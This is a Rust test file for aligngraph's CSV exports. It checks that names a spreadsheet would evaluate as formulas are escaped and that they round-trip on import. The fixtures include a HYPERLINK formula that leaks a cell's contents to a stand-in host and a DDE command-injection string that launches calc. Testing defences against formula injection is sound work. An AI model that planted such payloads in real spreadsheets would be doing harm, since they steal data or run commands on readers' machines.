//! Hostile input for the commands: names that a spreadsheet would run as formulas in every CSV
//! the product writes, arguments out of range, work that must stop at its time limit, a long
//! dependency cycle, and the bundle template found from where the program is installed.

use crate::common::{root, run_cli};
use aligngraph::formats::csv_cell::{is_number, is_trigger, neutralise, restore};
use aligngraph::formats::export::{ExportFormat, export};
use aligngraph::formats::{plain_csv, scores_csv};
use aligngraph::model::{Edge, EdgeKind, Model, Node, NodeKind, Num};
use aligngraph::{Options, score};
use proptest::prelude::*;
use serde_json::{Map, Value};

/// A fresh empty folder under the system's temporary folder.
fn temp_dir(tag: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("aligngraph-hostile-cmds-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn hostile(path: &str) -> std::path::PathBuf {
    root().join("tests/fixtures/hostile").join(path)
}

/// Every cell of a CSV text, with its row and column.
fn cells(text: &str) -> Vec<(usize, usize, String)> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut out = Vec::new();
    for (row, rec) in r.records().enumerate() {
        let rec = rec.expect("the written CSV parses");
        for (col, c) in rec.iter().enumerate() {
            out.push((row, col, c.to_string()));
        }
    }
    out
}

/// The cells that a spreadsheet would evaluate: starting with a trigger and not a number.
fn formula_cells(text: &str) -> Vec<(usize, usize, String)> {
    cells(text)
        .into_iter()
        .filter(|(_, _, c)| c.starts_with(is_trigger) && !is_number(c))
        .collect()
}

/// The model without its top-level fields, which the CSV pair does not carry.
fn graph_only(m: &Model) -> Model {
    let mut m = m.clone();
    m.name = None;
    m.currency = None;
    m.time_unit = None;
    m.extra = Map::new();
    m
}

fn injection_model() -> Model {
    let text = std::fs::read_to_string(hostile("csv/injection-names.json")).unwrap();
    crate::common::model(&text)
}

#[test]
fn csv_cell_rules_match_the_shared_table_of_the_page() {
    let text = std::fs::read_to_string(hostile("csv/injection-cases.json")).unwrap();
    let table: Value = serde_json::from_str(&text).unwrap();
    let cases = table["cases"].as_array().unwrap();
    assert!(cases.len() > 20);
    for case in cases {
        let (text, written) = (case[0].as_str().unwrap(), case[1].as_str().unwrap());
        assert_eq!(neutralise(text), written, "{text:?}");
        assert_eq!(restore(written), text, "{written:?}");
    }
}

#[test]
fn every_csv_export_quotes_formula_names_and_keeps_numbers() {
    let m = injection_model();
    let report = score(&m, &Options::default());
    let files = export(&report, ExportFormat::Csv, "m", None);
    assert_eq!(files.len(), 3);
    for f in &files {
        assert_eq!(formula_cells(&f.text), vec![], "{}", f.name);
    }
    let scores = &files[2].text;
    assert!(
        scores.contains(r#"ini-0,initiative,"'=HYPERLINK(""http://host/?leak=""&A1,""details"")""#),
        "{scores}"
    );
    assert!(scores.contains("ini-1,initiative,'=cmd|' /C calc'!A0,"));
    // A node whose id and name are numbers keeps them as numbers.
    assert!(scores.contains("\n-5,initiative,-7,"), "{scores}");
    let nodes = &files[0].text;
    assert!(nodes.contains("\n'=id,initiative,'@id node,"), "{nodes}");
    assert!(nodes.contains(",'\tcalc,"), "{nodes}");
    assert!(nodes.contains("\"'\rcalc\""), "{nodes}");
    assert!(nodes.contains("''=already quoted"), "{nodes}");
    // The unknown field named like a formula is quoted in the header too.
    assert!(nodes.lines().next().unwrap().ends_with(",'=formula_field"));
    let edges = &files[1].text;
    assert!(edges.starts_with("from,to,kind,weight,'@note\n"), "{edges}");
    assert!(edges.contains("'=id,cap-+x,supports,0.25,'=1+1"), "{edges}");
    assert_eq!(scores_csv::to_string(&report).unwrap(), *scores);
}

#[test]
fn csv_export_of_formula_names_imports_back_to_the_same_model() {
    let m = injection_model();
    let (nodes, edges) = plain_csv::write(&m);
    let (back, d) = plain_csv::read(nodes.as_bytes(), edges.as_bytes());
    assert_eq!(d, vec![]);
    assert_eq!(back, graph_only(&m));
    assert_eq!(
        back.nodes[2].name.as_deref(),
        Some(r#"=HYPERLINK("http://host/?leak="&A1,"details")"#)
    );
}

#[test]
fn score_csv_and_export_csv_on_the_command_line_write_no_formula_cell() {
    let dir = temp_dir("csv");
    let model = hostile("csv/injection-names.json");
    let out = run_cli(dir.as_path(), &["score", model.to_str().unwrap(), "--csv"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(formula_cells(&text), vec![]);
    assert!(text.contains("'=cmd|' /C calc'!A0"));
    let out = run_cli(
        dir.as_path(),
        &["export", model.to_str().unwrap(), "--to", "csv", "-o", "set"],
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    for f in ["nodes.csv", "edges.csv", "scores.csv"] {
        let text = std::fs::read_to_string(dir.as_path().join("set").join(f)).unwrap();
        assert_eq!(formula_cells(&text), vec![], "{f}");
    }
    // And the set imports back to the same names.
    let out = run_cli(dir.as_path(), &["import", "set/nodes.csv", "-o", "back.json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let back = std::fs::read_to_string(dir.as_path().join("back.json")).unwrap();
    let (back, _) = aligngraph::load_json(&back);
    assert_eq!(graph_only(&back), graph_only(&injection_model()));
}

#[test]
fn archi_csv_reader_restores_quoted_formula_names() {
    let elements = "\"ID\",\"Type\",\"Name\",\"Documentation\",\"Specialization\"\n\
        \"m1\",\"ArchimateModel\",\"M\",\"\",\"\"\n\
        \"e1\",\"Goal\",\"'=1+1\",\"''=doc\",\"\"\n";
    let relations = "\"ID\",\"Type\",\"Name\",\"Documentation\",\"Source\",\"Target\",\"Specialization\"\n";
    let (m, _) =
        aligngraph::formats::archi_csv::read(elements.as_bytes(), relations.as_bytes(), None);
    let e = &m.elements[0];
    assert_eq!(e.name.as_deref(), Some("=1+1"));
    assert_eq!(e.documentation.as_deref(), Some("'=doc"));
}

/// Text rich in formula triggers and quotes.
const TRICKY: &str = "[=+@'\t\r-]{0,2}(\\PC{1,6}|[0-9.e+-]{1,5})";

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_csv_cell_starts_a_formula_and_export_imports_back(
        texts in prop::collection::vec(TRICKY, 1..8),
        key in TRICKY,
        numbers in prop::collection::vec(-1.0e6f64..=1.0e6, 0..8),
    ) {
        let mut m = Model::new();
        for (i, t) in texts.iter().enumerate() {
            let mut n = Node::new(format!("{t}{i}"), NodeKind::Initiative).with_name(t.as_str());
            n.attrs_mut().description = Some(t.as_str().into());
            n.extra_mut().insert(format!("x{key}"), Value::from(t.as_str()));
            if let Some(&x) = numbers.get(i) {
                n.attrs_mut().set(Num::Benefit, Some(x));
                n.attrs_mut().set(Num::Cost, Some(x.abs()));
            }
            m.add_node(n);
        }
        if !key.trim().is_empty() && !plain_csv::NODE_COLUMNS.contains(&key.trim()) {
            m.nodes[0].extra_mut().insert(key.clone(), Value::from("=1"));
        }
        for (i, &w) in numbers.iter().enumerate() {
            let from = (i % texts.len()) as u32;
            m.add_edge(Edge::new(from, 0, EdgeKind::Contributes).with_weight(w / 1.0e6));
        }
        let report = score(&m, &Options::default());
        for f in export(&report, ExportFormat::Csv, "m", None) {
            prop_assert_eq!(formula_cells(&f.text), vec![], "{}", f.name);
        }
        let (nodes, edges) = plain_csv::write(&m);
        let (back, d) = plain_csv::read(nodes.as_bytes(), edges.as_bytes());
        prop_assert!(d.iter().all(|d| d.code == aligngraph::diagnostics::Code::SelfLoop), "{:?}", d);
        prop_assert_eq!(back, m);
    }
}
